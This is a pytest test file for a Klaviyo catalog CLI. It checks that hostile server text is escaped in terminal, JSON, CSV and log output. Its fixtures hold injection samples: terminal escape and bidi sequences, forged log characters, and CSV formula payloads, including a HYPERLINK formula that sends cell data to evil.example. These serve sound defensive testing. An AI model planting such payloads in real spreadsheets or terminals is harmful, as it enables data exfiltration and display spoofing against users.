"""The CLI against a server whose text is hostile: nothing it sends reaches a terminal, a log
line or a spreadsheet as a control, a forged line or a formula, and every output encodes."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from typing import Any

import attrs
import httpx
import pytest
from klaviyo_catalog._cli._waiting import WATCH_KINDS
from klaviyo_catalog.testing import FakeKlaviyo

from tests.cli.test_cli import SECRET, Run, cli, cli_in_terminal
from tests.cli.test_safe_text import EVIL, hidden
from tests.support.hardening_support import json_body

SURROGATE_ID = "01J\ud800LONE"  # valid JSON ("\ud800"), but no encoder takes it as it is
EVIL_ID = "01JEVIL\x1b[2J\u202eDI"
FORMULAS = {
    "detail": '=HYPERLINK("https://evil.example/?"&A1,"Fix it")',
    "external_id": "@SUM(1+1)",
    "code": "+1+1",
    "pointer": "-2+3",
}
# How the escaped EVIL starts, wherever a person reads it.
SHOWN = "\\x1b]8;;https://evil.example/\\x07click"


@attrs.frozen
class Hostile:
    fake: FakeKlaviyo
    item_update: str  # complete, errors quoting EVIL and formulas, an item titled EVIL


@pytest.fixture(scope="module")
def hostile() -> Iterator[Hostile]:
    with FakeKlaviyo(api_key=SECRET, rate_limits=None) as fake:
        fake.add_job("item-create", status="processing", job_id=EVIL_ID)
        for kind in WATCH_KINDS:  # a list to serve with a lone surrogate in an id
            fake.add_job(kind, status="queued")
        fake.add_job("item-create", status="processing")
        fake.set_job(fake.add_job("item-create", status="processing"), status="queued" + EVIL)
        item_update = fake.add_job(
            "item-update",
            status="complete",
            items=[
                {"external_id": FORMULAS["external_id"], "title": "\t=cmd", "price": float("nan")},
                {"external_id": "TEE\u202eKLB", "title": EVIL, "price": 1.5},
            ],
            errors=[
                {
                    "detail": FORMULAS["detail"],
                    "code": FORMULAS["code"],
                    "source": {"pointer": FORMULAS["pointer"]},
                    "meta": {"external_id": FORMULAS["external_id"], "score": float("inf")},
                },
                {"detail": EVIL, "meta": {"external_id": "TEE\u202eKLB"}},
            ],
        )
        yield Hostile(fake, item_update)
    assert fake.internal_errors == []


@pytest.fixture
def fake(hostile: Hostile) -> FakeKlaviyo:
    hostile.fake.clear_faults()
    hostile.fake.reset_log()
    return hostile.fake


def shown_safely(run: Run, live: bool = False) -> Run:
    """No character a terminal would act on or hide, in either stream: only line ends (and,
    on a live display, the CLI's own redraw sequences)."""
    out = re.sub(r"\r|\x1b\[[HJK]", "", run.out) if live else run.out
    assert hidden(out, allowed="\n") == [], out
    assert hidden(run.err, allowed="\n") == [], run.err
    return run


def strict_json(line: str) -> Any:
    def refuse(constant: str) -> Any:
        raise AssertionError(f"{constant} is not JSON")

    return json.loads(line, parse_constant=refuse)


def served_with(fake: FakeKlaviyo, kind: str, job_id: str) -> bytes:
    """The fake's list of `kind` with the first job's id replaced by `job_id`."""
    response = httpx.get(fake.url(kind), headers=fake.headers())
    document = response.json()
    document["data"][0]["id"] = job_id
    return json.dumps(document).encode()  # ASCII: the lone surrogate as its escape


# --- jobs list -------------------------------------------------------------------------------


def test_list_shows_hostile_ids_and_statuses_escaped(fake: FakeKlaviyo) -> None:
    run = shown_safely(cli("jobs", "list", "item-create", fake=fake))

    assert run.code == 0
    assert "01JEVIL\\x1b[2J\\u202eDI" in run.out
    assert "queued" + SHOWN in run.out


def test_list_json_keeps_the_exact_values_in_strict_json(fake: FakeKlaviyo) -> None:
    run = shown_safely(cli("jobs", "list", "item-create", "--json", fake=fake))

    jobs = [strict_json(line) for line in run.out.splitlines()]
    assert EVIL_ID in {job["id"] for job in jobs}
    assert "queued" + EVIL in {job["status"] for job in jobs}


@pytest.mark.parametrize("as_json", [False, True])
def test_a_listed_id_with_a_lone_surrogate_is_shown(fake: FakeKlaviyo, as_json: bool) -> None:
    fake.inject(json_body(json.loads(served_with(fake, "item-create", SURROGATE_ID))))

    run = shown_safely(cli("jobs", "list", "item-create", *(["--json"] * as_json), fake=fake))

    assert run.code == 0, run.err
    if as_json:
        assert SURROGATE_ID in {strict_json(line)["id"] for line in run.out.splitlines()}
    else:
        assert "01J\\ud800LONE" in run.out


# --- jobs get and errors ---------------------------------------------------------------------


def test_get_shows_errors_and_items_escaped(hostile: Hostile, fake: FakeKlaviyo) -> None:
    run = shown_safely(
        cli("jobs", "get", "item-update", hostile.item_update, "--include", fake=fake)
    )

    assert run.code == 0
    assert f"  - {SHOWN}" in run.out  # the error line
    assert "[TEE\\u202eKLB]" in run.out  # its external id
    assert "\\x09=cmd" in run.out  # a title in the items table


def test_get_json_prints_nan_and_infinity_as_null(hostile: Hostile, fake: FakeKlaviyo) -> None:
    args = ("jobs", "get", "item-update", hostile.item_update, "--include", "--json")
    run = shown_safely(cli(*args, fake=fake))

    job = strict_json(run.out)
    assert [item["price"] for item in job["items"]] == [None, 1.5]
    assert job["errors"][0]["meta"]["score"] is None
    assert [item["title"] for item in job["items"]] == ["\t=cmd", EVIL]  # exact


def test_errors_table_is_escaped(hostile: Hostile, fake: FakeKlaviyo) -> None:
    run = shown_safely(cli("jobs", "errors", "item-update", hostile.item_update, fake=fake))

    assert run.code == 0
    assert SHOWN in run.out and "2 errors in job" in run.out


def test_errors_csv_neutralises_formulas_and_escapes_controls(
    hostile: Hostile, fake: FakeKlaviyo
) -> None:
    args = ("jobs", "errors", "item-update", hostile.item_update, "--csv")
    run = shown_safely(cli(*args, fake=fake))

    header, *rows = list(csv.reader(io.StringIO(run.out)))
    cells = [dict(zip(header, row, strict=True)) for row in rows]
    first = cells[0]
    assert first["detail"] == "'" + FORMULAS["detail"]
    assert first["external_id"] == "'" + FORMULAS["external_id"]
    assert first["code"] == "'" + FORMULAS["code"]
    assert first["pointer"] == "'" + FORMULAS["pointer"]
    assert first["resource_id"].endswith(FORMULAS["external_id"])  # paired with its item
    assert cells[1]["detail"].startswith(SHOWN)
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_errors_json_is_one_failure_a_line_with_exact_values(
    hostile: Hostile, fake: FakeKlaviyo
) -> None:
    args = ("jobs", "errors", "item-update", hostile.item_update, "--json")
    run = shown_safely(cli(*args, fake=fake))

    failures = [strict_json(line) for line in run.out.splitlines()]
    assert [f["error"]["detail"] for f in failures] == [FORMULAS["detail"], EVIL]
    assert [f["resource"]["title"] for f in failures] == ["\t=cmd", EVIL]
    assert failures[0]["error"]["meta"] == {"external_id": "@SUM(1+1)", "score": None}


# --- jobs wait and watch ---------------------------------------------------------------------


@pytest.mark.parametrize("as_json", [False, True])
def test_wait_shows_the_finished_jobs_errors_escaped(
    hostile: Hostile, fake: FakeKlaviyo, as_json: bool
) -> None:
    args = ("jobs", "wait", "item-update", hostile.item_update, "--poll-interval", "0.01")
    run = shown_safely(cli(*args, *(["--json"] * as_json), fake=fake))

    assert run.code == 0, run.err
    if as_json:
        done = [strict_json(line) for line in run.out.splitlines()][-1]
        assert done["event"] == "done" and done["job"]["errors"][1]["detail"] == EVIL
    else:
        assert f"  - {SHOWN}" in run.out


def test_watch_in_a_pipe_prints_a_lone_surrogate_escaped(fake: FakeKlaviyo) -> None:
    # The first walk of a poll lists the first listable kind's queued jobs.
    fake.inject(json_body(json.loads(served_with(fake, WATCH_KINDS[0], SURROGATE_ID))))

    run = shown_safely(cli("jobs", "watch", "--count", "1", fake=fake))

    assert run.code == 0, run.err
    ids = {strict_json(line)["id"] for line in run.out.splitlines()}
    assert {SURROGATE_ID, EVIL_ID} <= ids


def test_watch_on_a_terminal_draws_hostile_ids_escaped(fake: FakeKlaviyo) -> None:
    fake.inject(json_body(json.loads(served_with(fake, WATCH_KINDS[0], SURROGATE_ID))))

    run = shown_safely(cli_in_terminal("jobs", "watch", "--count", "1", fake=fake), live=True)

    assert run.code == 0, run.err
    assert "01J\\ud800LONE" in run.out and "01JEVIL\\x1b[2J\\u202eDI" in run.out


# --- stderr: the error line and -v -----------------------------------------------------------


def test_an_error_line_quoting_the_server_stays_one_escaped_line(
    hostile: Hostile, fake: FakeKlaviyo
) -> None:
    body = {"errors": [{"status": 400, "code": "invalid", "title": "Bad", "detail": EVIL}]}
    fake.inject(json_body(body, 400))

    run = shown_safely(cli("jobs", "get", "item-update", hostile.item_update, fake=fake))

    assert run.code == 1
    assert run.err.count("\n") == 1 and SHOWN in run.err


def test_verbose_log_lines_cannot_be_forged(hostile: Hostile, fake: FakeKlaviyo) -> None:
    body = {"errors": [{"status": 503, "code": "down", "title": "Down", "detail": EVIL}]}
    fake.inject(json_body(body, 503, **{"X-Klaviyo-Req-Id": "req-\x9b2J\x85"}))

    run = shown_safely(cli("jobs", "get", "item-update", hostile.item_update, "-v", fake=fake))

    assert run.code == 0, run.err
    logged = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3} (DEBUG|INFO|WARNING) ")
    lines = run.err.splitlines()
    assert lines and all(logged.match(line) for line in lines), lines  # no forged line
    assert any("retry 1 of" in line and SHOWN in line for line in lines)
    assert any("request id req-\\x9b2J\\x85" in line for line in lines)
